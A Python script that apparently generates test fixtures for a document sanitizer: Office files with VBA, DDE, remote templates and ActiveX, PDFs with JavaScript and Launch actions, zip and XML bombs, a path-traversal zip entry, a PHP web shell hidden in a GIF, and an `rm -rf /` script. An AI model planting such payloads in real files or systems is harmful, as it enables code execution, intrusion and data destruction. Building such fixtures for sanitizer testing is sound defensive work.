#!/usr/bin/env python3
"""make_fixtures.py OUTDIR — build the hostile and ordinary documents the
sanitize tests use: Office files with a VBA part, a remote template, DDE,
ActiveX and OLE objects; PDFs with OpenAction JavaScript, an embedded file,
Launch/URI actions, reference cycles; a zip bomb, an XML bomb, deep nesting;
a renamed executable; images with metadata and appended bytes; text in
Shift_JIS. Everything is made here, from nothing, so the tests need no
downloads."""
import os, shutil, struct, sys, zipfile, zlib

OUT = sys.argv[1]
os.makedirs(OUT, exist_ok=True)

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def write_zip(name, parts):
    with zipfile.ZipFile(os.path.join(OUT, name), "w", zipfile.ZIP_DEFLATED) as z:
        for pn, data in parts:
            z.writestr(pn, data)


def rels(items):
    body = "".join(
        '<Relationship Id="%s" Type="%s" Target="%s"%s/>'
        % (i, t, tg, ' TargetMode="External"' if ext else "")
        for i, t, tg, ext in items)
    return '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="%s">%s</Relationships>' % (PR, body)


def ctypes(defaults, overrides):
    d = "".join('<Default Extension="%s" ContentType="%s"/>' % x for x in defaults)
    o = "".join('<Override PartName="%s" ContentType="%s"/>' % x for x in overrides)
    return '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="%s">%s%s</Types>' % (CT, d, o)


BASE_DEFAULTS = [("rels", "application/vnd.openxmlformats-package.relationships+xml"),
                 ("xml", "application/xml"), ("png", "image/png")]
DOC_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
SETTINGS_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
ROOT_RELS = rels([("rId1", OD + "officeDocument", "word/document.xml", False)])


def document(body):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="%s" xmlns:r="%s" xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>%s'
            '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>' % (W, R, body))


def para(text):
    return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


SETTINGS = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:settings xmlns:w="%s" xmlns:r="%s">%%s<w:defaultTabStop w:val="720"/></w:settings>' % (W, R)

# 1. docm: VBA project (+ its vbaData through the project's own .rels),
#    a DDEAUTO field, an OLE object, an ActiveX control, a hyperlink.
dde = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
       '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
       '<w:p><w:fldSimple w:instr=" DDE Excel Sheet1 R1C1 "><w:r><w:t>y</w:t></w:r></w:fldSimple></w:p>')
ole = ('<w:p><w:r><w:object><v:shape id="s1" style="width:10pt;height:10pt"/>'
       '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId5"/></w:object></w:r></w:p>'
       '<w:p><w:r><w:object><w:control r:id="rId6" w:name="CommandButton1"/></w:object></w:r></w:p>')
link = '<w:p><w:hyperlink r:id="rId7"><w:r><w:t>市のサイト</w:t></w:r></w:hyperlink></w:p>'
vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nShell \"calc.exe\"\nEnd Sub\n"
write_zip("macro.docm", [
    ("[Content_Types].xml", ctypes(BASE_DEFAULTS + [("bin", "application/vnd.ms-office.vbaProject")], [
        ("/word/document.xml", DOCM_MAIN), ("/word/settings.xml", SETTINGS_CT),
        ("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"),
        ("/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"),
        ("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        ("/customUI/customUI.xml", "application/xml")])),
    ("_rels/.rels", rels([("rId1", OD + "officeDocument", "word/document.xml", False),
                          ("rId2", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml", False)])),
    ("customUI/customUI.xml", '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Evil"/>'),
    ("word/document.xml", document(para("予算書（案）") + dde + ole + link)),
    ("word/_rels/document.xml.rels", rels([
        ("rId1", OD + "settings", "settings.xml", False),
        ("rId4", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),
        ("rId5", OD + "oleObject", "embeddings/oleObject1.bin", False),
        ("rId6", OD + "control", "activeX/activeX1.xml", False),
        ("rId7", OD + "hyperlink", "https://www.example.jp/", True)])),
    ("word/settings.xml", SETTINGS % ""),
    ("word/vbaProject.bin", vba),
    ("word/_rels/vbaProject.bin.rels", rels([("rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml", False)])),
    ("word/vbaData.xml", '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'),
    ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504),
    ("word/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>'),
])

# 2. docx with a remote template (the "template injection" of phishing mail).
write_zip("remote_template.docx", [
    ("[Content_Types].xml", ctypes(BASE_DEFAULTS, [("/word/document.xml", DOC_MAIN), ("/word/settings.xml", SETTINGS_CT)])),
    ("_rels/.rels", ROOT_RELS),
    ("word/document.xml", document(para("会議資料"))),
    ("word/_rels/document.xml.rels", rels([("rId1", OD + "settings", "settings.xml", False)])),
    ("word/settings.xml", SETTINGS % '<w:attachedTemplate r:id="rId1"/>'),
    ("word/_rels/settings.xml.rels", rels([("rId1", OD + "attachedTemplate", "http://203.0.113.9/t.dotm", True)])),
])

# 3. A clean docx (nothing to remove) — the re-scan baseline.
write_zip("clean.docx", [
    ("[Content_Types].xml", ctypes(BASE_DEFAULTS, [("/word/document.xml", DOC_MAIN)])),
    ("_rels/.rels", ROOT_RELS),
    ("word/document.xml", document(para("安全な文書") + para("二段落目"))),
])

# 4. xlsx: a DDE formula, an external link (linked data), a macro sheet.
X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XCT = "application/vnd.openxmlformats-officedocument.spreadsheetml"
write_zip("dde.xlsx", [
    ("[Content_Types].xml", ctypes(BASE_DEFAULTS, [
        ("/xl/workbook.xml", XCT + ".sheet.main+xml"),
        ("/xl/worksheets/sheet1.xml", XCT + ".worksheet+xml"),
        ("/xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml"),
        ("/xl/externalLinks/externalLink1.xml", XCT + ".externalLink+xml")])),
    ("_rels/.rels", rels([("rId1", OD + "officeDocument", "xl/workbook.xml", False)])),
    ("xl/workbook.xml", '<?xml version="1.0" encoding="UTF-8"?>\n<workbook xmlns="%s" xmlns:r="%s"><sheets>'
     '<sheet name="集計" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" r:id="rId2"/></sheets>'
     '<externalReferences><externalReference r:id="rId3"/></externalReferences></workbook>' % (X, R)),
    ("xl/_rels/workbook.xml.rels", rels([
        ("rId1", OD + "worksheet", "worksheets/sheet1.xml", False),
        ("rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet2.xml", False),
        ("rId3", OD + "externalLink", "externalLinks/externalLink1.xml", False)])),
    ("xl/worksheets/sheet1.xml", '<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="%s"><sheetData>'
     '<row r="1"><c r="A1"><v>42</v></c><c r="B1"><f>A1*2</f><v>84</v></c></row>'
     '<row r="2"><c r="A2"><f>cmd|\' /C calc\'!A0</f><v>0</v></c></row></sheetData></worksheet>' % X),
    ("xl/macrosheets/sheet2.xml", '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'),
    ("xl/externalLinks/externalLink1.xml", '<externalLink xmlns="%s"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' % X),
    ("xl/externalLinks/_rels/externalLink1.xml.rels", rels([("rId1", OD + "externalLinkPath", "file:///C:/secret.xlsx", True)])),
])

# 5. Hostile packages: a zip bomb, an XML bomb, deep nesting, a plain zip.
bomb = zipfile.ZipFile(os.path.join(OUT, "bomb.docx"), "w", zipfile.ZIP_DEFLATED, compresslevel=9)
bomb.writestr("[Content_Types].xml", ctypes(BASE_DEFAULTS, [("/word/document.xml", DOC_MAIN)]))
bomb.writestr("_rels/.rels", ROOT_RELS)
bomb.writestr("word/document.xml", b"<" + b"\0" * (40 * 1024 * 1024))
bomb.close()
laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
          "".join('<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1) if i else "&lol;") * 10) for i in range(9)) +
          ']><Types xmlns="%s">&lol8;</Types>' % CT)
write_zip("xmlbomb.docx", [("[Content_Types].xml", laughs), ("_rels/.rels", ROOT_RELS),
                           ("word/document.xml", document(para("x")))])
deep = document(para("DDE") + "<w:p>" * 5000 + "</w:p>" * 5000)
write_zip("deep.docx", [("[Content_Types].xml", ctypes(BASE_DEFAULTS, [("/word/document.xml", DOC_MAIN)])),
                        ("_rels/.rels", ROOT_RELS), ("word/document.xml", deep)])
write_zip("archive.zip", [("readme.txt", "hello"), ("tool.exe", b"MZ" + b"\0" * 100)])
write_zip("traversal.docx", [("[Content_Types].xml", ctypes(BASE_DEFAULTS, [("/word/document.xml", DOC_MAIN)])),
                             ("_rels/.rels", ROOT_RELS), ("word/document.xml", document(para("x"))),
                             ("../../etc/cron.d/evil", "* * * * * root id")])


# 6. PDFs, written object by object with a correct xref table.
def pdf(objects, trailer_extra=""):
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, body in enumerate(objects, 1):
        offs.append(len(out))
        if isinstance(body, str):
            body = body.encode("latin-1")
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += ("trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, x)).encode()
    return bytes(out)


def stream(dict_extra, data):
    return b"<< /Length %d %s>>\nstream\n" % (len(data), dict_extra.encode()) + data + b"\nendstream"


content = b"BT /F1 24 Tf 72 720 Td (Budget 2026) Tj ET"
hostile = pdf([
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC << /S /JavaScript /JS (app.alert\\(2\\)) >> >> "
    "/Names << /JavaScript << /Names [(init) 6 0 R] >> /EmbeddedFiles << /Names [(payload.exe) 7 0 R] >> >> "
    "/AcroForm << /Fields [] /XFA 9 0 R >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
    "/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> "
    "/Annots [10 0 R 11 0 R 12 0 R] /AA << /O << /S /JavaScript /JS (1) >> >> >>",
    stream("", content),
    "<< /S /JavaScript /JS (app.launchURL\\('http://203.0.113.9/'\\)) /Next << /S /Launch /F (cmd.exe) >> >>",
    "<< /S /JavaScript /JS 13 0 R >>",
    "<< /Type /Filespec /F (payload.exe) /EF << /F 8 0 R >> >>",
    stream("/Type /EmbeddedFile", b"MZ\x90\x00 not really an exe"),
    stream("", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>evil()</script></xdp:xdp>"),
    "<< /Type /Annot /Subtype /Link /Rect [72 600 200 620] /A << /S /Launch /F (calc.exe) >> >>",
    "<< /Type /Annot /Subtype /Link /Rect [72 560 200 580] /A << /S /URI /URI (https://www.example.jp/) >> >>",
    "<< /Type /Annot /Subtype /FileAttachment /Rect [72 500 90 520] /FS 7 0 R >>",
    stream("", b"this.exportDataObject({cName: 'payload.exe', nLaunch: 2});"),
])
open(os.path.join(OUT, "hostile.pdf"), "wb").write(hostile)
open(os.path.join(OUT, "truncated.pdf"), "wb").write(hostile[:len(hostile) // 3])
clean = pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
             "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
             "/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
             stream("", content)])
open(os.path.join(OUT, "clean.pdf"), "wb").write(clean)
# Reference cycles: a /Next chain that loops, a page tree whose kid is its parent.
cycle = pdf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 /Loop 2 0 R >>",
             "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Self 3 0 R >>",
             stream("", content), "<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
             "<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R 6 0 R 7 0 R] >>",
             "<< /S /SubmitForm /F (http://203.0.113.9/) /Next 5 0 R >>"])
open(os.path.join(OUT, "cycle.pdf"), "wb").write(cycle)
# Encrypted: made by qpdf when it is installed.
if shutil.which("qpdf"):
    os.system("qpdf --encrypt secret secret 256 -- '%s' '%s'" % (os.path.join(OUT, "clean.pdf"), os.path.join(OUT, "password.pdf")))


# 7. Images with metadata and bytes appended; a renamed executable; text.
def png_chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)


rows = b"".join(b"\0" + b"".join(bytes([x * 16, y * 16, 128]) for x in range(16)) for y in range(16))
png = (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)) +
       png_chunk(b"tEXt", b"Comment\0<script>alert(1)</script>") +
       png_chunk(b"IDAT", zlib.compress(rows)) + png_chunk(b"IEND", b"") + b"PK\x03\x04 appended zip")
open(os.path.join(OUT, "meta.png"), "wb").write(png)
open(os.path.join(OUT, "photo.jpg"), "wb").write(png)  # a PNG named .jpg: the name lies
gif = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
       b"\x21\xfe\x0bhidden note\x00"
       b"\x21\xf9\x04\x01\x00\x00\x00\x00"
       b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00\x3b" + b"<?php system($_GET['c']); ?>")
open(os.path.join(OUT, "comment.gif"), "wb").write(gif)
shutil.copy("/bin/true", os.path.join(OUT, "invoice.docx"))
open(os.path.join(OUT, "tool.exe"), "wb").write(b"MZ\x90\x00" + b"\0" * 56 + struct.pack("<I", 64) + b"PE\0\0\x4c\x01" + b"\0" * 200)
open(os.path.join(OUT, "script.txt"), "w").write("#!/bin/sh\nrm -rf /\n")
open(os.path.join(OUT, "memo_sjis.txt"), "wb").write("庁内連絡：来週の会議は第二会議室で行います。\r\n資料は各自印刷してください。\r\n".encode("cp932"))
open(os.path.join(OUT, "list.csv"), "w", encoding="utf-8").write("氏名,所属\n山田,総務課\n")
open(os.path.join(OUT, "legacy.doc"), "wb").write(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + b"\0" * 4000)
open(os.path.join(OUT, "dde.csv"), "w", encoding="utf-8").write("件名,金額\n請求,=cmd|' /C calc'!A0\n\"=1+2\",@SUM(A1)\n")
open(os.path.join(OUT, "utf16.txt"), "wb").write(b"\xff\xfe" + "全角テキスト UTF-16\r\n".encode("utf-16-le"))
